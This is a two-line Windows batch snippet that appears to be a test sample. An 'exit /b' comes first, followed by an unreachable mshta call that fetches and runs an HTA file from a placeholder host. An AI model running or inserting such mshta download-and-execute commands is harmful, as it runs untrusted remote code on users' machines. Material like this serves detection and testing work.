exit /b & rem nothing below ever runs
mshta https://h.example.invalid/a.hta
